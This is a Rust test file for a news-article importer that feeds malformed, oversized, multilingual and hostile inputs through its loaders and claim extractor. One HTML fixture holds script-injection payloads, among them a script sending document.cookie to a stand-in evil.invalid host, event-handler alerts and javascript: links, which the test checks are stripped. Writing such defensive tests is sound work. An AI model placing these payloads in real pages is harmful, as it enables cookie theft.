//! Hostile and odd inputs, one test each, through the same entry points the importer uses (`load_file`,
//! `load_bytes`, then `extract_claims`). Binary files, invalid UTF-8, zero-byte files, JSONL with a bad line
//! and oversized files below the limit are covered by the CLI tests; the same article with other whitespace by
//! the store tests.

#![allow(clippy::unwrap_used)]

use std::io::Write;

use claimtrail_core::ingest::{load_bytes, load_file, IngestError, IngestOptions};
use claimtrail_core::{extract_claims, ArticleDraft, ExtractedClaim, SourceFormat};

/// Every span slices the text exactly, in order (one pass over the text, so large inputs stay cheap).
fn assert_spans(text: &str, claims: &[ExtractedClaim]) {
    let starts: Vec<usize> = text
        .char_indices()
        .map(|(i, _)| i)
        .chain(std::iter::once(text.len()))
        .collect();
    let total = starts.len() - 1;
    let mut last = 0;
    for c in claims {
        assert!(
            c.start < c.end && c.end <= total && c.start >= last,
            "{c:?}"
        );
        assert_eq!(&text[starts[c.start]..starts[c.end]], c.text);
        last = c.end;
    }
}

fn one(bytes: Vec<u8>, format: Option<SourceFormat>) -> Result<ArticleDraft, IngestError> {
    let mut loaded = load_bytes("input", "Input", bytes, format, &IngestOptions::default());
    assert_eq!(loaded.len(), 1);
    loaded.remove(0).result
}

const STORY: &str =
    "The Velmar port authority said on Monday that 14 ships had waited offshore for a week.\n\n\
“We lost $3 million in fees,” the authority's director, Ines Barrante, told reporters.";

#[test]
fn utf16_files_with_a_bom_are_read_as_text() {
    for little in [true, false] {
        let mut bytes = if little {
            vec![0xFF, 0xFE]
        } else {
            vec![0xFE, 0xFF]
        };
        for u in STORY.encode_utf16() {
            bytes.extend(if little {
                u.to_le_bytes()
            } else {
                u.to_be_bytes()
            });
        }
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("utf16.txt");
        std::fs::write(&path, &bytes).unwrap();
        let loaded = load_file(&path, &IngestOptions::default());
        let draft = loaded[0].result.as_ref().unwrap();
        assert!(draft.text.contains("Ines Barrante"), "{}", draft.text);
        assert_eq!(
            draft.original, bytes,
            "the original bytes are kept as they were"
        );
        let claims = extract_claims(&draft.text);
        assert!(!claims.is_empty());
        assert_spans(&draft.text, &claims);
    }
    // A lone surrogate is refused, not replaced.
    let mut bad = vec![0xFF, 0xFE];
    bad.extend(0xD800u16.to_le_bytes());
    bad.extend(u16::from(b'a').to_le_bytes());
    assert!(matches!(one(bad, None), Err(IngestError::NotUtf8 { .. })));
}

#[test]
fn a_100_mb_text_file_is_refused_by_the_size_limit_without_reading_it() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.txt");
    let mut f = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    let line = "The council said the budget would rise by 4 percent next year. ".repeat(16);
    let mut written = 0usize;
    while written < 100 * 1024 * 1024 {
        f.write_all(line.as_bytes()).unwrap();
        f.write_all(b"\n").unwrap();
        written += line.len() + 1;
    }
    f.flush().unwrap();
    drop(f);
    let loaded = load_file(&path, &IngestOptions::default());
    assert_eq!(loaded.len(), 1);
    match &loaded[0].result {
        Err(IngestError::TooLarge { size, limit }) => {
            assert!(*size >= 100 * 1024 * 1024);
            assert_eq!(*limit, claimtrail_core::ingest::DEFAULT_MAX_BYTES);
        }
        other => panic!("expected the size limit, got {other:?}"),
    }
}

#[test]
fn a_1_mb_single_line_is_handled() {
    // One line of prose, no line breaks at all.
    let mut text = String::new();
    let mut n = 0;
    while text.len() < 1024 * 1024 {
        text.push_str(&format!(
            "The Orlen mayor, Tomas Varga, said {n} new buses would run by May, up {p} percent. ",
            p = n % 90 + 1
        ));
        n += 1;
    }
    let draft = one(text.into_bytes(), Some(SourceFormat::Text)).unwrap();
    assert!(!draft.text.contains('\n'));
    let claims = extract_claims(&draft.text);
    assert!(!claims.is_empty());
    assert_spans(&draft.text, &claims);

    // One 1 MB "word" with no spaces or punctuation: no claim, no panic.
    let blob = "x".repeat(1024 * 1024);
    let draft = one(blob.into_bytes(), Some(SourceFormat::Text)).unwrap();
    let claims = extract_claims(&draft.text);
    assert_spans(&draft.text, &claims);
}

#[test]
fn deeply_nested_and_broken_html_does_not_panic() {
    let depth = 5_000;
    let nested = format!(
        "<html><body>{}<p>The harbour plan will cost $40 million, the mayor said on Friday.</p>{}</body></html>",
        "<div>".repeat(depth),
        "</div>".repeat(depth)
    );
    let unclosed = format!(
        "<html><body>{}The bridge reopened on Tuesday after repairs, officials said.",
        "<span><b><i>".repeat(depth / 3)
    );
    let broken = "<html><body><p>Dock workers voted 312 to 40 <b>to accept<p></i> a 6 percent raise</td></tr>\
                  <<<>>> <a href=x onclick=>the union said</a></div></div></body><p>after the end</html></html>";
    // Too deep to be an article: refused with a reason, quickly (readability scoring is quadratic in depth).
    assert!(matches!(
        one(nested.clone().into_bytes(), Some(SourceFormat::Html)),
        Err(IngestError::Html(reason)) if reason.contains("nested")
    ));
    // Deep but plausible nesting still reads.
    let deep_ok = format!(
        "<html><body>{}<p>The harbour plan will cost $40 million, the mayor said on Friday.</p>{}</body></html>",
        "<div>".repeat(400),
        "</div>".repeat(400)
    );
    let d = one(deep_ok.into_bytes(), Some(SourceFormat::Html)).unwrap();
    assert!(d.text.contains("$40 million"), "{}", d.text);
    for html in [unclosed.as_str(), broken] {
        match one(html.as_bytes().to_vec(), Some(SourceFormat::Html)) {
            Ok(d) => {
                let claims = extract_claims(&d.text);
                assert_spans(&d.text, &claims);
            }
            Err(e) => assert!(
                matches!(e, IngestError::Html(_) | IngestError::NoText),
                "{e:?}"
            ),
        }
    }
}

#[test]
fn html_scripts_iframes_handlers_and_javascript_links_give_text_only() {
    let html = r#"<!doctype html><html><head><title>Ferry fares rise | Coast Ledger</title>
<script>window.stolen = document.cookie; alert("pwned-head");</script>
<style>body { background: url(javascript:alert('css')) }</style></head>
<body onload="alert('pwned-onload')">
<nav><a href="/">Home</a></nav>
<article>
<h1>Ferry fares rise</h1>
<p>Ferry fares between Castrel and Nordvik will rise by 8 percent in June, the operator said on Monday.</p>
<script>fetch("https://evil.invalid/?c=" + document.cookie)</script>
<p>“Fuel costs doubled in two years,” the operator's chief executive, Priya Amari, said.
<a href="javascript:alert('pwned-link')" onclick="steal()">Read the statement</a>.</p>
<iframe src="https://evil.invalid/frame" onload="alert('pwned-frame')">iframe fallback words</iframe>
<img src=x onerror="alert('pwned-img')">
<p>Passenger groups said the rise would hit 12,000 daily commuters.</p>
<noscript><p>noscript secret</p></noscript>
</article></body></html>"#;
    let draft = one(html.as_bytes().to_vec(), None).unwrap();
    assert_eq!(draft.source_format, SourceFormat::Html);
    let text = &draft.text;
    assert!(
        text.contains("Ferry fares between Castrel and Nordvik"),
        "{text}"
    );
    assert!(text.contains("Priya Amari"), "{text}");
    assert!(text.contains("12,000 daily commuters"), "{text}");
    for banned in [
        "alert",
        "pwned",
        "document.cookie",
        "fetch(",
        "javascript:",
        "onclick",
        "onerror",
        "onload",
        "evil.invalid",
        "<script",
        "<iframe",
        "background:",
        "steal()",
    ] {
        assert!(
            !text.contains(banned),
            "`{banned}` leaked into the text: {text}"
        );
    }
    assert!(!draft
        .url
        .as_deref()
        .unwrap_or("")
        .starts_with("javascript:"));
    let claims = extract_claims(text);
    assert!(!claims.is_empty());
    assert_spans(text, &claims);
    for c in &claims {
        assert!(!c.text.contains("alert"), "{c:?}");
    }
}

#[test]
fn right_to_left_and_mixed_scripts_keep_exact_spans() {
    let text = "قال وزير النقل إن الجسر سيفتح في مايو. The transport minister, Karim Haddad, said the bridge \
would reopen in May after repairs costing $3 million.\n\n\
“הגשר ייפתח בקרוב,” said Noa Levi, the city engineer, adding that 4,000 cars use it every day.\n\n\
Officials in Mirova said 12 percent of the \u{202e}budget\u{202c} went to roads \u{200f}this year\u{200f}, \
while the Бюджет committee and 東京 observers disagreed.";
    let draft = one(text.as_bytes().to_vec(), Some(SourceFormat::Text)).unwrap();
    let claims = extract_claims(&draft.text);
    assert!(claims.len() >= 2, "{claims:#?}");
    assert_spans(&draft.text, &claims);
    assert!(
        claims.iter().any(|c| c.text.contains("הגשר")),
        "{claims:#?}"
    );
    assert!(
        claims.iter().any(|c| c.text.contains('\u{202e}')),
        "{claims:#?}"
    );
}

#[test]
fn emoji_and_combining_characters_keep_exact_spans() {
    // Combining marks with no precomposed form survive NFC; ZWJ sequences and skin tones are several chars.
    let text = "The Z\u{351}\u{36b}a\u{35b}l\u{344}go festival said 👩‍👩‍👧‍👦 families bought 3,000 tickets 🎟️ this year, \
up 40 percent 👍🏽.\n\n“We sold out in 2 hours 🇳🇴,” the organiser, Sunniva Rask\u{30a}\u{323}, said on Monday.\n\n\
Rask\u{30a}\u{323} said the q\u{307}u\u{31b}\u{301}ay would be rebuilt for $1.5 million 🏗️.";
    let draft = one(text.as_bytes().to_vec(), Some(SourceFormat::Text)).unwrap();
    let claims = extract_claims(&draft.text);
    assert!(claims.len() >= 2, "{claims:#?}");
    assert_spans(&draft.text, &claims);
    assert!(claims.iter().any(|c| c.text.contains("👩‍👩‍👧‍👦")), "{claims:#?}");
    assert!(
        claims.iter().any(|c| c.text.contains('\u{351}')),
        "a claim with combining marks: {claims:#?}"
    );
    // Spans never split a char; check the byte boundaries too.
    for c in &claims {
        let from = draft
            .text
            .char_indices()
            .nth(c.start)
            .map(|(i, _)| i)
            .unwrap();
        assert!(draft.text[from..].starts_with(&c.text));
    }
}
